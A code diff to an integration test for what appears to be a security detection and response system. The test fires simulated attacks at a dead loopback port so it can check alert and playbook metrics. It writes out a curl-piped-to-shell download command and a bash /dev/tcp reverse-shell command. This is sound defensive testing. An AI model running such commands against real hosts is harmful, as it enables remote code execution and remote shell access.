@@ -52,15 +52,16 @@ function healthCheck(port: number, serviceName: string): Promise<number> {
   });
 }
 
-/** A command line the shipped rule "Download Piped to a Shell" matches (the fetch goes nowhere). */
-function pipedDownload(): Promise<void> {
-  return new Promise((resolve) => {
-    execFile(
-      'sh',
-      ['-c', 'curl -s --max-time 1 http://127.0.0.1:9/omega-dashboard-test | sh'],
-      () => resolve(),
-    );
-  });
+/**
+ * Command lines two shipped rules catch, aimed at loopback port 9 (nothing listens; nothing is
+ * fetched or connected): a download piped to a shell, and a bash /dev/tcp reverse shell, which
+ * the shipped reverse-shell playbook answers.
+ */
+async function scriptedAttack(): Promise<void> {
+  const run = (file: string, args: string[]) =>
+    new Promise<void>((resolve) => execFile(file, args, () => resolve()));
+  await run('sh', ['-c', 'curl -s --max-time 1 http://127.0.0.1:9/omega-dashboard-test | sh']);
+  await run('bash', ['-c', 'exec 3<>/dev/tcp/127.0.0.1/9 || true']);
 }
 
 async function waitFor(
@@ -96,7 +97,7 @@ beforeAll(async () => {
     expect(await healthCheck(omega.grpcPort(s), '')).toBe(grpc.status.OK);
     expect(await healthCheck(omega.grpcPort(s), 'omega.NoSuchService')).toBe(grpc.status.NOT_FOUND);
   }
-  await pipedDownload();
+  await scriptedAttack();
   await waitFor(
     'an alert from the scripted attack',
     async () => (await prometheus.query('sum(omega_intelligence_alerts_total)')).length > 0,
@@ -104,13 +105,34 @@ beforeAll(async () => {
   ).catch((err: Error) => {
     throw new Error(`${err.message}; omega up output ends with:\n${omega.output().slice(-3000)}`);
   });
+  // The reverse-shell alert starts the reverse-shell playbook; its steps run and it closes. Each
+  // is asynchronous: wait for them before sampling.
+  for (const metric of [
+    'omega_orchestrator_workflows_started_total',
+    'omega_orchestrator_step_duration_seconds_count',
+    'omega_orchestrator_workflows_closed_total',
+  ]) {
+    await waitFor(
+      `${metric} from the playbook the alert started`,
+      async () => (await prometheus.query(`sum(${metric})`)).length > 0,
+      90_000,
+    ).catch((err: Error) => {
+      const orchestratorLog = omega
+        .output()
+        .split('\n')
+        .filter((line) => line.startsWith('orchestrator'))
+        .slice(-40)
+        .join('\n');
+      throw new Error(`${err.message}; the orchestrator's log ends with:\n${orchestratorLog}`);
+    });
+  }
   // rate() over [5m] needs two samples after the calls: a few scrapes.
   await new Promise((r) => setTimeout(r, 4000));
   for (const s of OMEGA_SERVICES) {
     const text = await (await fetch(`http://127.0.0.1:${omega.metricsPort(s)}/metrics`)).text();
     for (const name of declaredMetrics(text)) declared.add(name);
   }
-}, 300_000);
+}, 600_000);
 
 afterAll(async () => {
   await prometheus?.stop();
